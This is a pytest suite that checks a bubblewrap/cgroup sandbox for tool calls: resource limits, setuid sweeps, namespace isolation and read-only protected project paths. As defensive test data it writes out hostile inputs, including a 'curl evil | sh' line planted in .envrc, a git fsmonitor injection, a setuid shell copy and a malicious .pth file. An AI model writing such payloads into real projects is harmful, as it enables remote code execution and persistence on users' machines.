"""The sandbox bounds the call, not the process; root inside is not root outside; the sandbox's
plumbing is unreachable; protected paths stay read-only; no isolation, no run.

Real bubblewrap sandboxes, real cgroups (v1 here, v2 when the machine is unified), real files.
Where the machine cannot give a mechanism (no writable cgroup), the tests assert that the result
*reports* the fallback instead of claiming the limit.
"""

from __future__ import annotations

import errno
import math
import os
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import textwrap
import threading
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio
from tooldeck_runner import (
    ISOLATION_BWRAP,
    ISOLATION_PROCESS,
    ISOLATION_UNAVAILABLE,
    RunnerExecutor,
)
from tooldeck_runner._outcomes import signal_result
from tooldeck_runner._sandbox import cpu_seconds

from tooldeck.testing import marked_pids
from tooldeck_hookspecs import (
    ExecutionConfig,
    SecurityConfig,
    ToolCall,
    ToolContext,
    ToolDefinition,
    ToolResult,
    normalise_rules,
)
from tooldeck_hookspecs.cgroups import detect

TOOLS_DIR = str(Path(__file__).resolve().parent)
HAVE_BWRAP = shutil.which("bwrap") is not None
needs_bwrap = pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap is not installed")
CGROUPS = detect()
MODES = [pytest.param("bubblewrap", marks=needs_bwrap), "process"]


def sandboxed(
    name: str, *, writes: bool = False, network: bool = False, **execution: Any
) -> ToolDefinition:
    execution.setdefault("timeout_s", 30)
    return ToolDefinition(
        name=name,
        description="a hostile test tool",
        category="code",
        entrypoint=f"runner_sandbox_tools:{name}",
        security=SecurityConfig(sandbox=True, writes_workdir=writes, network=network),
        execution=ExecutionConfig(**execution),
    )


async def call(
    ex: RunnerExecutor,
    workdir: Path,
    tool: ToolDefinition,
    *,
    protected: tuple[str, ...] | None = None,
    **arguments: Any,
) -> ToolResult:
    context = ToolContext(
        session_id="limits",
        workdir=str(workdir),
        call_id=uuid.uuid4().hex,
        attributes={"token": "hunter2"},
    )
    if protected is not None:
        context = attrs.evolve(context, protected_paths=protected)
    return await ex.run(tool, ToolCall(name=tool.name, arguments=arguments), context)


def executor(mode: str = "bubblewrap", **runner: Any) -> RunnerExecutor:
    return RunnerExecutor.from_settings(
        {"runner": {"sandbox": mode, "python_path": [TOOLS_DIR], "warm_workers": 1, **runner}}
    )


@pytest.fixture
async def bwrap() -> AsyncIterator[RunnerExecutor]:
    if not HAVE_BWRAP:
        pytest.skip("bubblewrap is not installed")
    ex = executor(tmp_size_mb=16, workdir_write_mb=16, file_size_mb=8)
    yield ex
    await ex.aclose()


@pytest.fixture
async def any_mode(request: Any) -> AsyncIterator[RunnerExecutor]:
    ex = executor(request.param, tmp_size_mb=16, workdir_write_mb=16, file_size_mb=8)
    yield ex
    await ex.aclose()


def own_sandbox_cgroups() -> list[str]:
    """Per-call cgroups of this process still present under its own cgroups."""
    found = []
    for parent in CGROUPS.parents.values():
        found += [n for n in os.listdir(parent) if n.startswith(f"tooldeck-sbx-{os.getpid()}-")]
    return found


async def assert_none_left(marker: str) -> None:
    for _ in range(250):  # the kernel tears namespaces down asynchronously
        if not marked_pids(marker):
            return
        await trio.sleep(0.02)
    assert marked_pids(marker) == [], f"processes with {marker!r} were left behind"


# -- 1. the call as a whole --------------------------------------------------------------------


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_memory_is_bounded_for_the_whole_process_tree(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    # 8 children x 64 MiB: every one is below the 256 MiB of the call, together they are not.
    result = await call(any_mode, tmp_path, sandboxed("children_allocate"), count=8, mb=64)
    limits = result.metadata["limits"]
    if not CGROUPS.available:
        # The fallback is reported, not claimed: RLIMIT_AS per process lets this through.
        assert limits["memory"] == "rlimit" and "per process" in limits["memory_scope"]
        return
    assert limits["memory"] == "cgroup" and limits["memory_mb"] == 256
    assert limits["memory_scope"].startswith("whole call")
    assert result.error is not None and result.error.code == "SANDBOX_MEMORY_LIMIT", result
    assert "256 MiB" in result.error.message and result.error.suggestion
    assert limits["memory_limit_hit"] is True
    await any_mode.aclose()  # the idle replacement has a cgroup of its own
    assert await _cgroups_drain()


async def _cgroups_drain() -> bool:
    for _ in range(100):
        if not own_sandbox_cgroups():
            return True
        await trio.sleep(0.02)
    return not own_sandbox_cgroups()


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_a_fork_bomb_stops_at_the_process_limit(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    marker = f"tooldeck-pids-{uuid.uuid4().hex}"
    result = await call(any_mode, tmp_path, sandboxed("thousand_children"), marker=marker)
    limits = result.metadata["limits"]
    if not CGROUPS.available:
        assert limits["max_processes"] is None and "unlimited" in limits["processes"]
        return
    assert limits["max_processes"] == 256 and "pids.max" in limits["processes"]
    assert result.error is not None and result.error.code == "EXECUTION_ERROR"
    assert "limit of 256 processes" in result.error.message
    assert result.error.details["limit"] == "max_processes"
    await any_mode.aclose()
    assert await _cgroups_drain()


@needs_bwrap
async def test_tmp_is_a_small_private_tmpfs(bwrap: RunnerExecutor, tmp_path: Path) -> None:
    result = await call(bwrap, tmp_path, sandboxed("fill_tmp"), mb=600)
    assert result.metadata["limits"]["tmp_mb"] == 16
    assert result.error is not None and "No space left on device" in result.error.message
    assert not list(Path("/tmp").glob("fill-*.bin"))  # the host's /tmp never saw it
    # /dev/shm is bounded the same way, and /dev itself is no storage.
    script = "for i in 1 2 3 4 5; do head -c 6000000 /dev/zero > /dev/shm/f$i; done; touch /dev/x"
    argv = ["/bin/sh", "-c", script]
    result = await call(bwrap, tmp_path, sandboxed("run_program"), argv=argv)
    assert "No space left on device" in result.data["stderr"], result
    assert "Read-only file system" in result.data["stderr"], result


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_bytes_written_into_the_workdir_have_a_budget(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    # 40 files of 6 MiB: each under the 8 MiB file size limit, together far over the budget.
    tool = sandboxed("write_many", writes=True)
    result = await call(any_mode, tmp_path, tool, files=40, mb=6)
    assert result.metadata["limits"]["workdir_write_mb"] == 16
    assert "statvfs" in result.metadata["limits"]["workdir_write"]
    assert result.error is not None and result.error.code == "TOO_LARGE", result
    assert "budget of 16 MiB" in result.error.message
    written = sum(p.stat().st_size for p in tmp_path.glob("bulk-*"))
    # Stopped on the way (precision: the poll interval times the write rate), not at the end.
    assert written < 240 * 1024 * 1024


_FALLOCATE = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("raw-probe", os.O_CREAT | os.O_WRONLY)
raw = libc.fallocate(fd, 0, ctypes.c_long(0), ctypes.c_long(1 << 20))
print("raw", raw, errno.errorcode.get(ctypes.get_errno()))
os.close(fd)
for i in range(40):
    fd = os.open(f"pre-{i}", os.O_CREAT | os.O_WRONLY)
    os.posix_fallocate(fd, 0, 6 << 20)
    os.close(fd)
print("all reserved")
"""


@needs_bwrap
async def test_fallocate_cannot_reserve_past_the_write_budget(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    """fallocate reserved 10 GiB in 70 ms, between two polls of the budget: it is refused, and
    posix_fallocate's fallback writes the blocks, which the budget stops on the way."""
    tool = sandboxed("run_program", writes=True)
    result = await call(bwrap, tmp_path, tool, argv=[sys.executable, "-c", _FALLOCATE])
    reserved = sum(p.stat().st_blocks * 512 for p in tmp_path.glob("pre-*"))
    if result.success:  # the snippet ended before a poll: its report says why
        assert "raw -1 EOPNOTSUPP" in result.data["stdout"], result.data
    else:
        assert result.error is not None and result.error.code == "TOO_LARGE", result
    # 40 x 6 MiB asked for; the budget is 16 MiB.
    assert reserved < 200 * 1024 * 1024, reserved


def test_the_filter_answers_fallocate_with_eopnotsupp() -> None:
    from tooldeck_runner import _seccomp

    for machine in ("x86_64", "aarch64"):
        program = _seccomp.build_filter(network=False, machine=machine)
        returns = [struct.unpack("=HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
        assert (0x06, 0, 0, 0x00050000 | errno.EOPNOTSUPP) in returns, machine


async def test_without_cgroups_the_rlimit_fallback_is_reported_and_still_holds(
    tmp_path: Path,
) -> None:
    ex = executor("bubblewrap" if HAVE_BWRAP else "process", cgroups=False)
    try:
        result = await call(ex, tmp_path, sandboxed("allocate_gigabyte"))
        limits = result.metadata["limits"]
        assert limits["memory"] == "rlimit"
        assert "disabled by runner.cgroups = false" in limits["memory_scope"]
        assert limits["max_processes"] is None
        assert result.error is not None and result.error.code == "SANDBOX_MEMORY_LIMIT"
        assert ex.statistics().sandbox.cgroups.startswith("unavailable")  # type: ignore[union-attr]
    finally:
        await ex.aclose()


async def test_threads_start_under_the_address_space_fallback(tmp_path: Path) -> None:
    # RLIMIT_AS counts reservations: glibc's 64 MiB malloc arena per thread let a tool start
    # only 4 threads under the 256 MiB fallback; the worker now allows two arenas.
    ex = executor("bubblewrap" if HAVE_BWRAP else "process", cgroups=False)
    try:
        result = await call(ex, tmp_path, sandboxed("start_threads"), count=16)
        assert result.metadata["limits"]["memory"] == "rlimit"
        assert result.success and result.data == 16, result
    finally:
        await ex.aclose()


CPUS = os.cpu_count() or 1


@pytest.mark.skipif(CPUS < 2, reason="one CPU: threads cannot spend CPU time faster than the clock")
# Alone under xdist: the two threads need both cores to spend CPU time faster than the clock
# within the timeout (a test on the other worker starved them into a TIMEOUT).
@pytest.mark.exclusive
@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_busy_threads_run_until_the_timeout_not_half_of_it(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    # Two busy threads for 4.5 s of a 6 s timeout spend about 9 CPU seconds: more than the
    # old limit (the timeout + 2 s, which ended such a call at about 4 s with SIGKILL and
    # SANDBOX_CRASHED), inside the new one (the timeout times the CPUs + 2 s).
    tool = sandboxed("busy_threads", timeout_s=6)
    result = await call(any_mode, tmp_path, tool, threads=2, seconds=4.5)
    assert result.success, result.error
    assert result.data["wall_s"] >= 4.5
    limits = result.metadata["limits"]
    assert limits["cpu_s"] == cpu_seconds(6) == 6 * CPUS + 2
    assert "threads" in limits["cpu"]


def test_the_cpu_limit_sends_sigxcpu_before_it_kills() -> None:
    # At the soft limit the kernel sends SIGXCPU, which the host reports as running out of
    # time (TIMEOUT); a hard limit equal to the soft one sent SIGKILL, reported as a crash.
    code = textwrap.dedent(
        """
        from tooldeck_runner._wire import Limits
        from tooldeck_runner._worker import _apply_limits
        _apply_limits(Limits(cpu_s=1, memory_rlimit=False, seccomp=False))
        while True:
            pass
        """
    )
    done = subprocess.run([sys.executable, "-c", code], timeout=60, check=False)
    assert done.returncode == -signal.SIGXCPU
    assert signal_result(signal.SIGXCPU, "", memory_mb=256).error.code == "TIMEOUT"  # type: ignore[union-attr]


def test_cpu_seconds_scale_with_the_cpus_and_stay_in_range() -> None:
    assert cpu_seconds(10) == 10 * CPUS + 2
    assert cpu_seconds(0.1) == math.ceil(0.1 * CPUS) + 2
    assert cpu_seconds(float("inf")) == 2**31 - 1  # clamped, not OverflowError


# -- 2. root inside is not root outside -------------------------------------------------------


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_no_setuid_or_setgid_file_is_left_behind(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    result = await call(any_mode, tmp_path, sandboxed("setid_attempts", writes=True))
    assert result.success, result.error
    assert result.metadata["limits"]["seccomp"] == "on"
    for name, outcome in result.data.items():
        if name.startswith("shell"):
            assert "Operation not permitted" in outcome, (name, outcome)
        else:
            assert outcome == "refused: Operation not permitted", (name, outcome)
    assert "setid_cleared" not in result.metadata["limits"]
    for path in tmp_path.rglob("*"):
        mode = path.lstat().st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID), path


@needs_bwrap
async def test_the_post_call_sweep_clears_setid_bits_without_seccomp(tmp_path: Path) -> None:
    ex = executor(seccomp=False)
    try:
        tool = sandboxed("run_program", writes=True)
        argv = ["/bin/sh", "-c", "cp /bin/sh suid-sh && chmod 6755 suid-sh"]
        result = await call(ex, tmp_path, tool, argv=argv)
        assert result.success and result.data["returncode"] == 0, result
        assert result.metadata["limits"]["seccomp"] == "off"
        assert result.metadata["limits"]["setid_cleared"] == ["suid-sh"]
        assert stat.S_IMODE((tmp_path / "suid-sh").stat().st_mode) == 0o755
    finally:
        await ex.aclose()


async def test_the_sweep_removes_a_hard_link_to_a_setuid_file_and_keeps_the_original(
    tmp_path: Path,
) -> None:
    # Degraded mode (no mount boundary): a hard link to a setuid file outside the workdir.
    # Clearing the bits on the link would change the original; the link is removed instead.
    outside = tmp_path / "outside"
    outside.mkdir()
    original = outside / "suid"
    shutil.copy("/bin/true", original)
    original.chmod(0o4755)
    workdir = tmp_path / "work"
    workdir.mkdir()
    ex = executor("process")
    try:
        tool = sandboxed("hard_link", writes=True)
        result = await call(ex, workdir, tool, source=str(original), name="linked")
        assert result.success and result.data == "linked", result.error
        assert result.metadata["limits"]["setid_cleared"] == ["linked"]
        assert not os.path.lexists(workdir / "linked")
        assert stat.S_IMODE(original.stat().st_mode) == 0o4755
    finally:
        await ex.aclose()


@needs_bwrap
async def test_the_tool_has_no_capability_and_its_own_user_namespace(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    result = await call(bwrap, tmp_path, sandboxed("identity"))
    assert result.success, result.error
    data = result.data
    assert data["CapEff"] == data["CapPrm"] == data["CapBnd"] == "0000000000000000"
    assert data["NoNewPrivs"] == "1" and data["Seccomp"] == "2"
    assert data["user_ns"] != os.readlink("/proc/self/ns/user")
    # A root deck: the sandbox's own uid, the same number inside and out (test_nonroot.py
    # checks the host's view); otherwise uid 0 inside is the deck's uid outside.
    limits = result.metadata["limits"]
    host_uid = limits["host_uid"]
    if "uid_fallback" in limits:
        assert data["uid_map"] == f"0 {os.getuid()} 1" and host_uid == os.getuid()
    else:
        assert data["uid_map"] == f"{host_uid} {host_uid} 1" and host_uid != 0
    assert "no capability" in limits["uid"]


# -- 3. the sandbox's plumbing ----------------------------------------------------------------


@needs_bwrap
async def test_the_workers_descriptors_and_memory_are_unreachable(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    result = await call(bwrap, tmp_path, sandboxed("plumbing"))
    assert result.success, result.error
    report = result.data
    assert report["forged"] == [], report  # no descriptor of the worker could be opened
    assert report["fds"] and all("Permission denied" in v for v in report["fds"].values())
    assert report["mem"] == "Permission denied" and report["environ"] == "Permission denied"
    assert report["secret_seen"] is False
    assert result.data != "FORGED"


@needs_bwrap
async def test_unix_sockets_are_unreachable_without_network(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    path = str(tmp_path / "host.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(4)
    received: list[bytes] = []

    def serve() -> None:
        server.settimeout(20)
        try:
            conn, _ = server.accept()
        except OSError:
            return
        received.append(conn.recv(100))
        conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        result = await call(bwrap, tmp_path, sandboxed("unix_connect"), path=path)
        assert result.data == "socket refused: Permission denied", result
        # With network, the same socket is reachable: the refusal is the rule, not an accident.
        result = await call(bwrap, tmp_path, sandboxed("unix_connect", network=True), path=path)
        assert result.data == "connected", result
        thread.join(20)
        assert received == [b"hello from the sandbox"]
    finally:
        server.close()


# -- 4. protected paths -----------------------------------------------------------------------


def make_project(root: Path) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    hook = root / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    (root / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    (root / "src" / "pkg").mkdir(parents=True)


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_protected_paths_created_by_a_call_are_removed(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    make_project(tmp_path)
    outside = tmp_path.parent / f"elsewhere-{uuid.uuid4().hex}.toml"
    writes = {
        "tooldeck.toml": "[tool.tooldeck]\n",
        "src/pkg/evil.pth": "import os\n",
        "src/.git/hooks/post-checkout": "#!/bin/sh\n",
        "a/b/c/d/e/f/deep.pth": "import os\n",
        "src/TOOLDECK.TOML": "[x]\n",
        "notes.txt": "fine\n",
    }
    tool = sandboxed("protected_writes", writes=True)
    result = await call(
        any_mode, tmp_path, tool, writes=writes, symlinks={".envrc": str(outside)}
    )
    assert result.error is not None and result.error.code == "PATH_NOT_ALLOWED", result
    assert "protected path" in result.error.message and result.error.suggestion
    removed = {p["path"] for p in result.error.details["protected"]}
    expected = {"tooldeck.toml", "src/pkg/evil.pth", "src/.git", ".envrc",
                "a/b/c/d/e/f/deep.pth", "src/TOOLDECK.TOML"}
    assert removed == expected
    for name in expected:
        assert not os.path.lexists(tmp_path / name), name
    assert (tmp_path / "notes.txt").read_text() == "fine\n"  # ordinary files stay


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_a_call_that_times_out_does_not_leave_protected_paths(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    tool = sandboxed("create_then_sleep", writes=True, timeout_s=1.0)
    result = await call(any_mode, tmp_path, tool, path="tooldeck.toml")
    assert result.error is not None and result.error.code == "TIMEOUT"
    assert not os.path.lexists(tmp_path / "tooldeck.toml")


@needs_bwrap
async def test_existing_protected_paths_are_read_only_in_a_writable_workdir(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    make_project(tmp_path)
    writes = {
        ".git/config": "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        ".git/hooks/pre-commit": "touch marker\n",
        "pyproject.toml": "[tool.tooldeck]\n",
    }
    tool = sandboxed("protected_writes", writes=True)
    result = await call(bwrap, tmp_path, tool, writes=writes, renames={".git": "moved-git"})
    assert result.success, result.error
    assert all(v == "refused: Read-only file system" for k, v in result.data.items()
               if k in writes), result.data
    assert result.data[".git->moved-git"].startswith("refused")
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert (tmp_path / "pyproject.toml").read_text() == "[project]\nname = 'x'\n"
    assert (tmp_path / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


@needs_bwrap
async def test_a_protected_symlink_and_what_it_points_to_are_kept(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    (tmp_path / "envrc.real").write_text("export A=1\n")
    (tmp_path / ".envrc").symlink_to("envrc.real")
    tool = sandboxed("protected_writes", writes=True)
    # Through the link: what the host's direnv would read is read-only.
    result = await call(bwrap, tmp_path, tool, writes={".envrc": "curl evil | sh\n"})
    assert result.data == {".envrc": "refused: Read-only file system"}, result
    # Replacing the link itself: it is restored after the call.
    result = await call(
        bwrap, tmp_path, tool, writes={}, unlink=[".envrc"], symlinks={".envrc": "/tmp/evil"}
    )
    assert result.error is not None and result.error.code == "PATH_NOT_ALLOWED", result
    assert os.readlink(tmp_path / ".envrc") == "envrc.real"
    assert (tmp_path / "envrc.real").read_text() == "export A=1\n"


@needs_bwrap
async def test_rules_from_the_configuration_are_protected_too(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    (tmp_path / "deploy.yml").write_text("steps: []\n")
    rules = normalise_rules(["deploy.yml", "ci/"])
    tool = sandboxed("protected_writes", writes=True)
    result = await call(
        bwrap, tmp_path, tool, protected=rules, writes={"deploy.yml": "x", "tooldeck.toml": "y"}
    )
    assert result.error is not None and result.error.code == "PATH_NOT_ALLOWED"
    assert result.error.details["result"]["deploy.yml"] == "refused: Read-only file system"
    assert (tmp_path / "deploy.yml").read_text() == "steps: []\n"
    result = await call(bwrap, tmp_path, tool, protected=rules, writes={"ci/run.sh": "x"})
    assert result.error is not None and "'ci/'" in result.error.message
    assert not (tmp_path / "ci").exists()


@needs_bwrap
async def test_a_protected_folder_moved_with_its_parent_is_moved_back(
    bwrap: RunnerExecutor, tmp_path: Path
) -> None:
    (tmp_path / "sub" / ".git").mkdir(parents=True)
    (tmp_path / "sub" / ".git" / "config").write_text("original\n")
    tool = sandboxed("protected_writes", writes=True)
    result = await call(
        bwrap, tmp_path, tool, writes={"sub/.git/config": "x"}, renames={"sub": "sub2"}
    )
    assert result.error is not None and result.error.code == "PATH_NOT_ALLOWED"
    # The user's .git is never deleted: it is put back where it was.
    assert (tmp_path / "sub" / ".git" / "config").read_text() == "original\n"
    assert not (tmp_path / "sub2" / ".git").exists()


# -- 5. lifetime --------------------------------------------------------------------------------


@pytest.mark.slow
@needs_bwrap
async def test_a_sandboxed_call_outlives_trios_idle_worker_threads(tmp_path: Path) -> None:
    # trio retires idle threads after 10 s; the sandbox must not die with the one that forked
    # it (PR_SET_PDEATHSIG is per thread). Cold and warm workers both.
    ex = executor(warm_workers=1)
    try:
        await ex.sandbox_pool().prewarm(str(tmp_path))
        results: list[ToolResult] = []

        async def one() -> None:
            results.append(await call(ex, tmp_path, sandboxed("sleep_for"), seconds=12))

        async with trio.open_nursery() as nursery:  # one warm, one cold, at the same time
            nursery.start_soon(one)
            nursery.start_soon(one)
        for result in results:
            assert result.success and result.data == 12, result.error
        assert sorted(r.metadata["warm"] for r in results) == [False, True]
    finally:
        await ex.aclose()


_ORPHAN_HOST = """
import sys, trio
sys.path.insert(0, {tools!r})
from tooldeck_runner import RunnerExecutor
from tooldeck_hookspecs import (
    ExecutionConfig, SecurityConfig, ToolCall, ToolContext, ToolDefinition,
)

async def main():
    ex = RunnerExecutor.from_settings(
        {{"runner": {{"sandbox": {mode!r}, "python_path": [{tools!r}], "warm_workers": 1}}}}
    )
    tool = ToolDefinition(name="sleep_marked", description="d", category="code",
        entrypoint="runner_sandbox_tools:sleep_marked",
        security=SecurityConfig(sandbox=True), execution=ExecutionConfig(timeout_s=600))
    print("started", flush=True)
    await ex.run(tool, ToolCall(name="sleep_marked", arguments={{"marker": {marker!r}}}),
                 ToolContext(session_id="s", workdir={workdir!r}))

trio.run(main)
"""


@pytest.mark.parametrize("mode", [pytest.param("bubblewrap", marks=needs_bwrap), "process"])
async def test_a_killed_deck_leaves_no_sandbox_behind(mode: str, tmp_path: Path) -> None:
    marker = f"tooldeck-orphan-{uuid.uuid4().hex}"
    script = _ORPHAN_HOST.format(tools=TOOLS_DIR, mode=mode, marker=marker, workdir=str(tmp_path))
    host = subprocess.Popen([sys.executable, "-c", textwrap.dedent(script)])
    try:
        with trio.fail_after(30):
            while not marked_pids(marker):
                await trio.sleep(0.05)
    finally:
        host.kill()
        host.wait()
    await assert_none_left(marker)


# -- 6. warm workers and the workdir -----------------------------------------------------------


@needs_bwrap
async def test_a_deleted_and_recreated_workdir_gets_fresh_workers(tmp_path: Path) -> None:
    # Single-use workers (zygotes: test_throughput_zygote): their warm pool is what counts.
    ex = executor(warm_workers=2, zygote=False)
    workdir = tmp_path / "w"
    try:
        workdir.mkdir()
        assert (await call(ex, workdir, sandboxed("echo"))).success
        with trio.fail_after(30):
            while ex.statistics().sandbox.warm_idle < 2:  # type: ignore[union-attr]
                await trio.sleep(0.02)
        shutil.rmtree(workdir)
        workdir.mkdir()
        (workdir / "in.txt").write_text("new")
        for _ in range(3):
            result = await call(ex, workdir, sandboxed("read_file"), path="in.txt")
            assert result.success and result.data == "new", result.error
        assert ex.statistics().sandbox.discarded_stale >= 1  # type: ignore[union-attr]
    finally:
        await ex.aclose()


@needs_bwrap
async def test_a_new_protected_path_makes_warm_workers_stale(tmp_path: Path) -> None:
    # Single-use workers (zygotes: test_throughput_zygote): their warm pool is what counts.
    ex = executor(warm_workers=1, zygote=False)
    try:
        tool = sandboxed("protected_writes", writes=True)
        assert (await call(ex, tmp_path, tool, writes={"a.txt": "1"})).success
        with trio.fail_after(30):
            while ex.statistics().sandbox.warm_idle < 1:  # type: ignore[union-attr]
                await trio.sleep(0.02)
        (tmp_path / "pyproject.toml").write_text("[project]\n")  # the user adds one
        result = await call(ex, tmp_path, tool, writes={"pyproject.toml": "[tool.tooldeck]\n"})
        assert result.data == {"pyproject.toml": "refused: Read-only file system"}
        assert ex.statistics().sandbox.discarded_stale == 1  # type: ignore[union-attr]
    finally:
        await ex.aclose()


@needs_bwrap
async def test_python_path_containing_the_workdir_keeps_it_writable(tmp_path: Path) -> None:
    project = tmp_path / "project"
    shutil.copytree(TOOLS_DIR, project, ignore=shutil.ignore_patterns("__pycache__"))
    ex = RunnerExecutor.from_settings(
        {"runner": {"sandbox": "bubblewrap", "python_path": [str(project)], "warm_workers": 0}}
    )
    try:
        target = str(project / "out.txt")
        tool = sandboxed("write_file", writes=True)
        result = await call(ex, project, tool, path=target, text="written")
        assert result.success, result.error
        assert (project / "out.txt").read_text() == "written"
    finally:
        await ex.aclose()


# -- 7. no isolation, no run ------------------------------------------------------------------


async def test_auto_without_bubblewrap_refuses_sandboxed_tools(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A machine without bwrap: nothing named bwrap on PATH.
    monkeypatch.setenv("PATH", str(tmp_path))
    ex = RunnerExecutor.from_settings({"runner": {"python_path": [TOOLS_DIR]}})
    try:
        assert ex.sandbox_pool().isolation == ISOLATION_UNAVAILABLE
        result = await call(ex, tmp_path, sandboxed("echo"))
        assert result.error is not None and result.error.code == "PERMISSION_DENIED"
        assert "bubblewrap" in result.error.message
        assert "apt-get install bubblewrap" in (result.error.suggestion or "")
        assert 'sandbox = "process"' in (result.error.suggestion or "")
        assert result.metadata["isolation"] == ISOLATION_UNAVAILABLE
    finally:
        await ex.aclose()
    opted = RunnerExecutor.from_settings(
        {"runner": {"python_path": [TOOLS_DIR], "allow_degraded": True, "warm_workers": 0}}
    )
    try:
        monkeypatch.setenv("PATH", "/usr/bin:/bin")  # the worker's own programs still run
        assert opted.sandbox_pool().isolation == ISOLATION_PROCESS
        result = await call(opted, tmp_path, sandboxed("echo"))
        assert result.success and result.metadata["isolation"] == ISOLATION_PROCESS
    finally:
        await opted.aclose()


@needs_bwrap
async def test_limits_metadata_names_every_mechanism(bwrap: RunnerExecutor, tmp_path: Path) -> None:
    result = await call(bwrap, tmp_path, sandboxed("echo"))
    assert result.metadata["isolation"] == ISOLATION_BWRAP
    limits = result.metadata["limits"]
    for key in ("memory", "memory_mb", "memory_scope", "max_processes", "processes", "tmp_mb",
                "file_size_mb", "workdir_write_mb", "seccomp", "uid"):
        assert key in limits, key
    assert limits["seccomp"] == "on"
    assert limits["workdir_write"] == "read-only mount"


@pytest.mark.slow
@needs_bwrap
async def test_bench_reports_the_cost_of_the_limits() -> None:
    from tooldeck_runner.bench import bench_sandbox_limits

    figures = await bench_sandbox_limits(3, rounds=1)
    assert figures["sandbox_warm_p50_ms_limits_off"] > 0
    assert figures["sandbox_warm_p50_ms_limits_on"] > 0
    assert figures["sandbox_limits_overhead_ratio"] > 0


@pytest.mark.parametrize("any_mode", MODES, indirect=True)
async def test_the_tool_sees_the_deployments_protected_rules_not_the_defaults(
    any_mode: RunnerExecutor, tmp_path: Path
) -> None:
    # A tool that checks paths itself (file_write) must refuse inside the sandbox what the
    # deployment protects, not only the defaults.
    rules = ("secrets/", "*.vault")
    result = await call(any_mode, tmp_path, sandboxed("protected_rules"), protected=rules)
    assert result.ok, result.error
    assert set(normalise_rules(rules)) <= set(result.data)
    default = await call(any_mode, tmp_path, sandboxed("protected_rules"))
    assert default.ok, default.error
    assert "secrets/" not in default.data and ".git/" in default.data
